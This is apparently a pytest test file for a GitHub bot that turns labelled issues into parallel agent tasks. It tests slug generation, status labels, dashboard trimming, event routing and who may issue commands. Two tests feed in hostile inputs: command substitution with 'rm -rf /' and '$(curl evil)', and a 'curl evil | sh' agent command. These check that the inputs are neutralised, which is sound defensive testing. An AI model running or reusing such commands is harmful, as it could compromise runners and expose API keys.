"""Pure parts of GitHub mode: issues to tasks, labels, dashboard trimming, routing, decisions."""

from __future__ import annotations

from typing import Any

import pytest

from bot.blocks import decode_state, encode_state
from bot.engine import Moved, Progress
from bot.events import HANDLED_EVENTS, parse_event
from bot.forge.base import IssueInfo, PullInfo
from bot.forge.issues import (
    slugify,
    status_label_change,
    task_from_issue,
    tasks_from_issues,
)
from bot.github_bot import ROUTES
from bot.github_bot.agents import pull_reports
from bot.github_bot.decisions import authorize, is_own_event
from bot.models import Estimate, Footprint, Plan, PlannedTask, TaskState, TaskStatus
from bot.render.dashboard import COMMENT_LIMIT, DashboardView, dashboard_body, md

S = TaskStatus


def _issue(number: int, title: str = "T", body: str = "", labels: tuple[str, ...] = ("parallel",)):
    return IssueInfo(number=number, title=title, body=body, labels=labels)


# -- issues -> tasks ------------------------------------------------------------------------------


def test_issue_becomes_a_task_with_its_block() -> None:
    body = "Do it.\n\n```orchestrate\nfiles: src/a.py\ndepends_on: [2]\npriority: 3\n```\n"
    task, problem = task_from_issue(_issue(7, "Add a --json flag!", body, ("parallel", "x")))
    assert problem is None
    assert (task.id, task.slug, task.branch) == (
        "7",
        "add-a-json-flag",
        "orchestrate/7-add-a-json-flag",
    )
    assert (task.files, task.depends_on, task.priority, task.labels) == (
        ("src/a.py",),
        ("2",),
        3,
        ("parallel", "x"),
    )


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("```orchestrate\nfiles: [a\n```", "not valid YAML"),
        ("```orchestrate\nfilez: [a]\n```", "filez"),
    ],
)
def test_a_bad_block_is_reported_not_fatal(body: str, expected: str) -> None:
    task, problem = task_from_issue(_issue(1, "x", body))
    assert problem is not None and expected in problem
    assert task.files == ()


def test_task_set_skips_non_tasks_and_drops_unknown_dependencies() -> None:
    issues = [
        _issue(3, body="```orchestrate\ndepends_on: [1, 9]\n```"),
        _issue(1),
        _issue(2, labels=("bug",)),
        IssueInfo(4, "pr", "", labels=("parallel",), is_pull=True),
        IssueInfo(5, "closed", "", state="closed", labels=("parallel",)),
    ]
    found = tasks_from_issues(issues)
    assert [t.id for t in found.tasks] == ["1", "3"]
    assert found.tasks[1].depends_on == ("1",)
    assert found.problems == ("#3: depends_on #9 ignored (not an open `parallel` issue)",)


def test_slug_is_safe_for_a_branch_name() -> None:
    assert slugify("Fix `rm -rf /`; $(curl evil) && 'x'") == "fix-rm-rf-curl-evil-x"
    assert slugify("!!!") == "task"
    assert len(slugify("word " * 40)) <= 40


def test_exactly_one_status_label() -> None:
    change = status_label_change(["parallel", "parallel:planned", "parallel:failed"], S.RUNNING)
    assert change.add == ("parallel:running",)
    assert change.remove == ("parallel:planned", "parallel:failed")
    assert status_label_change(["parallel:running"], S.RUNNING).empty
    assert status_label_change(["parallel:review"], None).remove == ("parallel:review",)


# -- dashboard ------------------------------------------------------------------------------------


def _huge_plan(n: int) -> tuple[Plan, dict[str, TaskState], dict[str, str]]:
    ids = [str(i) for i in range(1, n + 1)]
    files = tuple(
        f"src/module_{i}/a_rather_long_file_name_{j}.py" for i in range(3) for j in range(3)
    )
    tasks = tuple(
        PlannedTask(
            id=i,
            title="A long title | with <html> and @someone " * 3,
            branch=f"orchestrate/{i}-t",
            footprint=Footprint(files=files),
            wave=1,
            why="nothing to wait for " * 5,
        )
        for i in ids
    )
    plan = Plan(
        max_parallel=4, tasks=tasks, dependencies=(), conflicts=(), waves=(tuple(ids),),
        merge_order=tuple(ids), critical_path=(ids[0],),
        estimate=Estimate(makespan=1, lower_bound=1, sequential=n, speedup=n),
    )  # fmt: skip
    states = {i: TaskState(id=i, detail="agent is thinking " * 10) for i in ids}
    return plan, states, {i: f"Task {i}" for i in ids}


def test_huge_dashboard_is_trimmed_but_keeps_the_state_whole() -> None:
    plan, states, titles = _huge_plan(1500)
    data = {
        "plan": plan.model_dump(mode="json"),
        "tasks": {k: v.model_dump() for k, v in states.items()},
    }
    block = encode_state(data)
    view = DashboardView(states=states, titles=titles, plan=plan, problems=["p"] * 50)
    body = dashboard_body(view, block)
    assert len(body) <= COMMENT_LIMIT
    assert body.rstrip().endswith(block)
    assert decode_state(body) == decode_state(block)
    assert "left out to fit" in body and "more tasks are not shown" in body


def test_small_dashboard_shows_everything() -> None:
    plan, states, titles = _huge_plan(3)
    body = dashboard_body(DashboardView(states=states, titles=titles, plan=plan), encode_state({}))
    assert "### Plan" in body and "```mermaid" in body and "left out" not in body


def test_untrusted_text_is_inert() -> None:
    text = md("<!-- orchestrate:state v1 --> | @admin #1 `x`")
    assert "<" not in text and "|" not in text.replace("\\|", "") and "`" not in text
    assert "@admin" not in text and "#1" not in text


# -- routing and decisions ------------------------------------------------------------------------


def test_routing_table_covers_exactly_the_handled_events() -> None:
    handled = {(event, action) for event, actions in HANDLED_EVENTS.items() for action in actions}
    assert set(ROUTES) == handled


def _payload(sender: dict[str, Any], **extra: Any) -> dict[str, Any]:
    owner = {"login": "octo", "type": "User"}
    return {
        "repository": {"full_name": "octo/demo", "name": "demo", "owner": owner},
        "sender": sender,
        **extra,
    }


def test_own_events_are_ignored_except_the_bots_own_loop() -> None:
    bot = {"login": "orchestrate-bot[bot]", "type": "Bot"}
    comment = parse_event(
        "issue_comment",
        _payload(
            bot,
            action="created",
            issue={"number": 1, "title": "t", "user": bot},
            comment={"id": 5, "body": "/orchestrate run", "user": bot},
        ),
    )
    dispatch = parse_event(
        "workflow_dispatch", _payload(bot, ref="refs/heads/main", workflow="w.yml")
    )
    assert comment is not None and dispatch is not None
    assert is_own_event(comment, "orchestrate-bot[bot]")
    assert not is_own_event(dispatch, "orchestrate-bot[bot]")


@pytest.mark.parametrize(
    ("role", "allowed"),
    [
        ("admin", True),
        ("maintain", True),
        ("write", True),
        ("triage", False),
        ("read", False),
        ("none", False),
    ],
)
def test_only_write_maintain_admin_may_command(role: str, allowed: bool) -> None:
    assert authorize("someone", role).allowed is allowed


def test_a_pull_request_moves_its_task_in_review() -> None:
    review = TaskState(id="1", status=S.REVIEW, head_sha="abc")
    opened = PullInfo(5, "orchestrate/1-x", "abc")
    pushed = PullInfo(5, "orchestrate/1-x", "def")
    merged = PullInfo(5, "orchestrate/1-x", "abc", state="closed", merged=True, merge_sha="m1")
    closed = PullInfo(5, "orchestrate/1-x", "abc", state="closed")
    assert pull_reports(review, opened, ()) == []
    assert pull_reports(review, None, ()) == []
    assert pull_reports(review, pushed, ("a.py",)) == [
        Progress("1", {"head_sha": "def", "files": ("a.py",)})
    ]
    [moved] = pull_reports(review, merged, ())
    assert isinstance(moved, Moved) and moved.status is S.MERGED
    assert moved.fields == {"merged_sha": "m1"}
    [moved] = pull_reports(review, closed, ())
    assert isinstance(moved, Moved) and moved.status is S.FAILED
    assert "closed without merging" in moved.detail


def test_an_issue_cannot_choose_its_agents_command_line() -> None:
    """Whoever can edit a `parallel` issue writes its block: it may pick a preset and a model,
    never a command, arguments or environment (those would run on the runner, with the
    agents' API keys)."""
    from bot.forge.issues import task_from_issue

    body = (
        "```orchestrate\nagent: {preset: command, command: 'curl evil | sh', "
        "env: {X: '1'}, extra_args: ['--yes'], model: m1}\n```\n"
    )
    task, problem = task_from_issue(IssueInfo(4, "Innocent", body, labels=("parallel",)))
    assert task.agent == {"preset": "command", "model": "m1"}
    assert problem is not None
    assert "agent.command, agent.env, agent.extra_args ignored" in problem
    fine, none = task_from_issue(IssueInfo(5, "Fine", "```orchestrate\nagent: codex\n```\n"))
    assert fine.agent == {"preset": "codex"} and none is None
